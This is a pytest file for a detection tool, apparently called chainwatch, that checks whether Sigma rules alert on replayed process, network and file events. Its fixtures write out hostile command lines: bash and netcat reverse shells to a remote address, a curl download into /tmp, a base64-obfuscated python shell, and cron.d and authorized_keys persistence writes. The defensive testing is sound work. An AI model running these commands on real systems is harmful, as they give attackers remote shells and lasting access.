"""`chainwatch replay FILE --alerts OUT --sigma DIR`: Sigma rules on recorded event streams, through the real CLI.

The rules in tests/replay/sigma were written for these tests, a few per logsource; the seed rule is
the bundled rules/sigma copy of SigmaHQ's published YAML. Each test replays attacks and near misses
and checks which processes a Sigma rule alerted on.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from tests.helpers.events import REMOTE, EventStream
from tests.replay.test_detection_replay import HOST_META, ROOT, script

SIGMA_DIRS = [ROOT / "tests" / "replay" / "sigma", ROOT / "rules" / "sigma"]
SEED_ID = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
SEED = "Linux Reverse Shell Indicator"


def replay_sigma(s: EventStream, tmp_path: Path) -> list[dict[str, Any]]:
    """Replay ``s`` with the bundled rules plus the Sigma test rules and the seed; returns the alerts."""
    s.write_recording(tmp_path / "events.cwrec", HOST_META)
    out = tmp_path / "alerts.jsonl"
    sigma = [arg for d in SIGMA_DIRS for arg in ("--sigma", str(d))]
    proc = subprocess.run(
        [sys.executable, "-m", "agent", "replay", str(tmp_path / "events.cwrec"), "--alerts", str(out), *sigma],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert '"sigma_rules_unsupported"' not in proc.stderr, proc.stderr
    assert '"exec": ' in proc.stderr  # the replay_done line: the events reached the pipeline
    return [json.loads(line) for line in out.read_text().splitlines() if line.strip()]


def sigma_hits(alerts: list[dict[str, Any]]) -> dict[int, set[str]]:
    """pid -> the Sigma rule names in that process's alerts."""
    sigma_names = {
        path.read_text().split("\n", 1)[0].removeprefix("title: ") for d in SIGMA_DIRS for path in d.glob("*.yml")
    }
    out: dict[int, set[str]] = {}
    for a in alerts:
        names = set(a["chainwatch"]["rules"]) & sigma_names
        if names:
            out.setdefault(a["process"]["pid"], set()).update(names)
    return out


def test_seed_rule_from_its_published_yaml_fires_on_bash_to_a_remote_address(tmp_path: Path) -> None:
    """SigmaHQ's 83dcd9f6, loaded as published, alerts critical on bash connecting out, not to 127.0.0.1 or by dash."""
    s = script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
    s.connect(200, REMOTE, 4444, t=1.01)
    s.spawn(210, 100, "/usr/bin/bash", ("bash", "wait-for-db.sh"), t=2)
    s.connect(210, "127.0.0.1", 5432, t=2.01)  # the published filter
    s.spawn(220, 100, "/usr/bin/dash", ("sh", "-c", f"exec 3<>/dev/tcp/{REMOTE}/4444"), t=3)
    s.connect(220, REMOTE, 4444, t=3.01)  # a shell, but not bash: chainwatch's own rule only
    alerts = replay_sigma(s, tmp_path)
    assert {pid for pid, names in sigma_hits(alerts).items() if SEED in names} == {200}
    bash = [a for a in alerts if a["process"]["pid"] == 200]
    assert len({a["chainwatch"]["incident"]["id"] for a in bash}) == 1  # one incident, escalated
    seed = bash[-1]
    assert seed["rule"] == {"id": SEED_ID, "name": SEED, "ruleset": "sigma"}
    assert seed["event"]["severity"] == 99 and seed["chainwatch"]["severity"] == "critical"
    assert seed["destination"] == {"ip": REMOTE, "port": 4444}
    assert seed["threat"]["technique"]["id"] == ["T1059.004"]
    assert {"shell_network_connection", "sigma_network_connection"} <= set(seed["chainwatch"]["signals"])
    # Both rules keep the seed's id; the alert names both.
    assert {SEED, "Shell connects to a remote address"} <= set(seed["chainwatch"]["rules"])
    dash = [a for a in alerts if a["process"]["pid"] == 220]
    assert dash and all("sigma_network_connection" not in a["chainwatch"]["signals"] for a in dash)


def test_process_creation_rules_positive_and_negative(tmp_path: Path) -> None:
    """Each process_creation test rule alerts on its attack exec and stays quiet on the near miss."""
    encoded = base64.b64encode(b"import os; os.system('bash -i')").decode()
    s = script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "build.sh"), t=1)
    s.spawn(300, 200, "/usr/bin/curl", ("curl", "-o", "/tmp/x", "http://198.51.100.2/x"), t=2)
    s.spawn(301, 200, "/usr/bin/curl", ("curl", "-o", "/var/cache/x", "http://198.51.100.2/x"), t=2.1)
    s.spawn(
        310, 200, "/usr/bin/python3.11", ("python3.11", "-c", f"import base64;exec(base64.b64decode('{encoded}'))"), t=3
    )
    s.spawn(311, 200, "/usr/bin/python3", ("python3", "-c", "import base64;print(base64.b64decode('bHM='))"), t=3.1)
    s.spawn(320, 200, "/usr/bin/sh", ("sh", "-c", f"echo hi > /dev/tcp/{REMOTE}/80"), t=4)
    s.spawn(321, 200, "/usr/bin/sh", ("sh", "-c", "WAITFOR=db; echo > /dev/tcp/db/5432"), t=4.1)
    s.spawn(330, 200, "/usr/bin/nc", ("nc", "-e", "/bin/sh", REMOTE, "4444"), t=5)
    s.spawn(331, 200, "/usr/bin/nc", ("nc", "-z", REMOTE, "4444"), t=5.1)
    hits = sigma_hits(replay_sigma(s, tmp_path))
    assert hits == {
        300: {"Test - curl or wget under a shell downloads into /tmp"},
        310: {"Test - python runs a base64-encoded interactive bash"},
        320: {"Test - /dev/tcp in a command line (keywords)"},
        330: {"Test - netcat executes a shell (windash, startswith, fieldref)"},
    }


def test_network_connection_rules_positive_and_negative(tmp_path: Path) -> None:
    """The network_connection test rules: cidr and port bounds outbound, Initiated false inbound."""
    s = script()
    s.spawn(100, None, "/usr/lib/systemd/systemd", ("systemd",), t=0)
    s.spawn(400, 100, "/usr/bin/python3", ("python3", "client.py"), t=1)
    s.connect(400, "203.0.113.7", 8443, t=1.1)
    s.spawn(401, 100, "/usr/bin/python3", ("python3", "client.py"), t=2)
    s.connect(401, "203.0.113.7", 50000, t=2.1)  # the ephemeral-port filter
    s.spawn(402, 100, "/usr/bin/python3", ("python3", "client.py"), t=3)
    s.connect(402, "198.51.100.7", 8443, t=3.1)  # outside the cidr
    s.spawn(410, 100, "/usr/bin/ncat", ("ncat", "-l", "31337"), t=4)
    s.accept(410, "203.0.113.5", 50001, 31337, t=4.1)
    s.spawn(411, 100, "/usr/sbin/nginx", ("nginx",), t=5)
    s.accept(411, "203.0.113.5", 50002, 443, t=5.1)
    alerts = replay_sigma(s, tmp_path)
    assert sigma_hits(alerts) == {
        400: {"Test - python connects out to a high port in 203.0.113.0/24"},
        410: {"Test - inbound connection on 31337"},
    }
    [inbound] = [a for a in alerts if a["process"]["pid"] == 410]
    assert "destination" not in inbound  # outbound only; the reason names the peer
    assert "203.0.113.5:50001" in inbound["event"]["reason"]


def test_file_event_rules_and_escalation_with_a_c2_signal(tmp_path: Path) -> None:
    """A Sigma C2 connect then a cron.d write by its child is one incident escalated to critical; dpkg is quiet."""
    s = script()
    s.spawn(100, None, "/usr/lib/systemd/systemd", ("systemd",), t=0)
    s.spawn(500, 100, "/usr/bin/python3", ("python3", "implant.py"), t=1)
    s.connect(500, "203.0.113.7", 8443, t=1.1)
    s.spawn(501, 500, "/usr/bin/sh", ("sh", "-c", "echo '* * * * * root /tmp/x' > /etc/cron.d/x"), t=2)
    s.file_write(501, "/etc/cron.d/x", t=2.1)
    s.spawn(510, 100, "/usr/bin/dpkg", ("dpkg", "-i", "cron.deb"), t=3)
    s.file_write(510, "/etc/cron.d/cron", t=3.1)
    s.spawn(520, 100, "/usr/bin/bash", ("bash", "-c", "cat key >> /root/.ssh/authorized_keys"), t=4)
    s.file_write(520, "/root/.ssh/authorized_keys", t=4.1)
    alerts = replay_sigma(s, tmp_path)
    hits = sigma_hits(alerts)
    assert hits == {
        500: {"Test - python connects out to a high port in 203.0.113.0/24"},
        501: {
            "Test - python connects out to a high port in 203.0.113.0/24",
            "Test - a cron.d entry written by something other than the package manager",
        },
        520: {"Test - authorized_keys written (file_create logsource)"},
    }
    chain = [a for a in alerts if a["process"]["pid"] in (500, 501)]
    assert len({a["chainwatch"]["incident"]["id"] for a in chain}) == 1
    assert [a["event"]["severity"] for a in chain][0] == 47 and chain[-1]["event"]["severity"] == 99
    signals = set(chain[-1]["chainwatch"]["signals"])
    assert {"sigma_network_connection", "sigma_file_event", "persistence_write"} <= signals
    assert chain[-1]["file"] == {"path": "/etc/cron.d/x"}
    assert chain[-1]["destination"] == {"ip": "203.0.113.7", "port": 8443}
    assert not [a for a in alerts if a["process"]["pid"] == 510]
